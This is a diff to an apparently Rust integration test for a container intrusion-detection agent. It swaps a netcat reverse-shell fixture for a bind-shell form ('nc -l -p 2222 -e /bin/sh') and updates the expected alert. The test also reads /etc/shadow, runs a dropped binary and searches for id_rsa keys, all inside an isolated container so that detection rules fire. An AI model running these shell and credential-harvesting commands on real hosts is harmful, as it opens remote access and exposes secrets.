@@ -7,8 +7,9 @@
 //!
 //! Fixtures follow Falco's event-generator actions where they apply
 //! (events/syscall/*.go): netcat_remote_code_execution_in_container
-//! (`nc -e /bin/sh HOST 22`, under `timeout`, busybox taking -e last, to a listener in the
-//! container), search_private_keys
+//! (`nc -e /bin/sh HOST 22`; here its bind-shell form `nc -l -p PORT -e
+//! /bin/sh`, which lives until a peer comes: the client form replaces
+//! itself with the shell at once, before its arguments can be read), search_private_keys
 //! (`find DIR -maxdepth 1 -iname id_rsa`), and the terminal shell.
 
 mod common;
@@ -66,10 +67,9 @@ fn a_containers_own_process_reads_shadow_listens_and_runs_a_dropped_binary() {
         echo 'root:*:19000:0:99999:7:::' > /etc/shadow; \
         sleep 0.3 | /bin/cat /etc/shadow -; \
         /bin/nc -l -p 4444 & \
-        /bin/nc -l -p 22 & \
+        /bin/nc -l -p 2222 -e /bin/sh & \
         cp /bin/busybox /tmp/cat; \
         sleep 0.3 | /tmp/cat /etc/hostname -; \
-        timeout 1 /bin/nc 127.0.0.1 22 -e /bin/sh; \
         /bin/find /tmp -maxdepth 1 -iname id_rsa -exec sleep 0.3 ';' -o -name cat -exec sleep 0.3 ';'; \
         exec sleep 600";
     let c = TestContainer::run("proc", &["--network", "none", BUSYBOX, "sh", "-c", script]);
@@ -109,7 +109,7 @@ fn a_containers_own_process_reads_shadow_listens_and_runs_a_dropped_binary() {
 
     // (event-generator: netcat_remote_code_execution_in_container)
     let rce = wait_alert(&agent, "96002", &c.name);
-    assert_eq!(rce["data"]["cmdline"], "/bin/nc 127.0.0.1 22 -e /bin/sh");
+    assert_eq!(rce["data"]["cmdline"], "/bin/nc -l -p 2222 -e /bin/sh");
     // (event-generator: search_private_keys_or_passwords)
     let search = wait_alert(&agent, "96011", &c.name);
     assert!(
